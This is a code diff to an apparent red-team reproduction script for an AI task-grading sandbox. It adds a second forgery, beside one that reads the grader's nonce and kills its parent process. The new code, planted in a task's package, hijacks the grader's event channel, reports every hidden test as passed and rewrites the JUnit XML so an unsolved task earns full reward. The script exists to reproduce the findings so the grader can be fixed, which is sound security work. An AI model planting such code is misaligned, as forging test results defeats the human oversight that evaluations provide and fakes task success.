@@ -1,13 +1,18 @@
-"""Reproduction of the red team's grading forgery (docs/redteam.md, finding G1). Not a test: it
-succeeds against the grader as it stands; turn it into a test asserting ``reward == 0`` once fixed.
+"""Reproduction of the red team's grading forgeries (docs/redteam.md, findings G1 and G2). Not a
+test: both succeed against the grader as it stands; turn them into tests asserting ``reward == 0``
+once fixed.
 
-Workspace code, imported by a hidden test after collection, runs in the grading runner's pytest
-child as the same uid as the runner's parent process, which is dumpable. So the child can read the
-parent's memory (the nonce), write to the parent's stdout through ``/proc/<ppid>/fd/1`` and SIGKILL
-the parent before it prints the real result. The forged line lists every collected hidden test as
-passed in all three sources the host cross-checks.
+Workspace code, imported by a hidden test after collection, runs inside the grading runner's pytest
+child, as the same uid as the runner's parent.
 
-Run: ``.venv/bin/python -m tests.redteam.grading_forge`` (two gradings, about 30-60 s).
+* ``FORGE_VIA_PARENT`` (G1): the parent is dumpable, so the child reads the nonce from
+  ``/proc/<ppid>/mem``, writes a result line of its own through ``/proc/<ppid>/fd/1`` and SIGKILLs
+  the parent before it prints the real one.
+* ``FORGE_OWN_CHANNELS`` (G2): needs nothing from the parent. The child owns both evidence channels:
+  it ``dup2``s the grader plugin's events fd onto a pipe it drains, writes passing events to the
+  real fd, and rewrites the JUnit XML from an ``atexit`` handler after pytest wrote it.
+
+Run: ``.venv/bin/python -m tests.redteam.grading_forge`` (three gradings, about 20-60 s).
 """
 
 import asyncio
@@ -26,7 +31,7 @@ from sandbox.settings import SandboxSettings
 TASK_ID = "builtin/roman-numerals"
 PACKAGE_INIT = "numerals/__init__.py"
 
-FORGE = r"""
+FORGE_VIA_PARENT = r"""
 def _forge():
     import gc, json, os, re, signal
     ppid = os.getppid()
@@ -72,6 +77,45 @@ _forge()
 """
 
 
+FORGE_OWN_CHANNELS = r"""
+def _forge_own_channels():
+    import atexit, gc, json, os, re, sys, threading
+    spec = json.loads(sys.argv[2])
+    fd, junit_path = spec["events_fd"], spec["junit"]
+    real = os.dup(fd)
+    r, w = os.pipe()
+    os.dup2(w, fd)  # the grader plugin now writes into a pipe nobody reads but us
+    os.close(w)
+    threading.Thread(target=lambda: [None for _ in iter(lambda: os.read(r, 65536), b"")], daemon=True).start()
+    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "items"))
+    ids = [item.nodeid for item in session.items]
+    current = os.environ.get("PYTEST_CURRENT_TEST", "").rsplit(" ", 1)[0]
+    start = ids.index(current) if current in ids else 0
+    def send(**event):
+        os.write(real, (json.dumps(event) + "\n").encode())
+    for i, nodeid in enumerate(ids[start:]):
+        for when in (("call", "teardown") if i == 0 and current else ("setup", "call", "teardown")):
+            if when == "call":
+                send(event="call", id=nodeid, raised=False)
+            send(event="report", id=nodeid, when=when, outcome="passed", message="")
+    def finish():
+        send(event="finish", exitstatus=0)
+        cases = []
+        for nodeid in ids:
+            names = nodeid.split("::")
+            names[0] = re.sub(r"\.py$", "", names[0].replace("/", "."))
+            cases.append(f'<testcase classname="{".".join(names[:-1])}" name="{names[-1]}" time="0.01"/>')
+        with open(junit_path, "w") as fh:
+            fh.write('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" '
+                     f'errors="0" failures="0" skipped="0" tests="{len(ids)}">' + "".join(cases)
+                     + "</testsuite></testsuites>")
+        os._exit(0)
+    atexit.register(finish)
+
+_forge_own_channels()
+"""
+
+
 def workspace_with(task: Task, files: dict[str, str]) -> bytes:
     """The task's initial workspace tar with ``files`` replaced."""
     out = io.BytesIO()
@@ -90,27 +134,29 @@ def workspace_with(task: Task, files: dict[str, str]) -> bytes:
     return out.getvalue()
 
 
-async def untouched_and_forged() -> tuple[GradeResult, GradeResult]:
-    """Grade the unsolved workspace as shipped, then the same workspace with the forgery added."""
+async def untouched_and_forged() -> list[tuple[str, GradeResult]]:
+    """Grade the unsolved workspace as shipped, then with each forgery prepended to the package."""
     client = docker.from_env()
     image = ensure_image(client)
     client.close()
     backend = DockerBackend(f"test-redteam-forge-{uuid.uuid4().hex[:6]}", None, SandboxSettings(image=image))
     task = {t.id: t for t in load_suite("builtin")}[TASK_ID]
     original = (task.workspace_dir / PACKAGE_INIT).read_text()
+    results = []
     try:
-        untouched = await grade(backend, task, task.workspace_tar())
-        forged = await grade(backend, task, workspace_with(task, {PACKAGE_INIT: FORGE + "\n" + original}))
+        results.append(("untouched", await grade(backend, task, task.workspace_tar())))
+        for name, forge in (("via-parent", FORGE_VIA_PARENT), ("own-channels", FORGE_OWN_CHANNELS)):
+            archive = workspace_with(task, {PACKAGE_INIT: forge + "\n" + original})
+            results.append((name, await grade(backend, task, archive)))
     finally:
         await backend.close()
-    return untouched, forged
+    return results
 
 
 def main() -> None:
-    untouched, forged = asyncio.run(untouched_and_forged())
-    for name, result in (("untouched", untouched), ("forged", forged)):
+    for name, result in asyncio.run(untouched_and_forged()):
         reason = result.details.get("reason")
-        print(f"{name:9} reward={result.reward} passed={result.passed}/{result.total} {reason}")
+        print(f"{name:12} reward={result.reward} passed={result.passed}/{result.total} {reason}")
 
 
 if __name__ == "__main__":
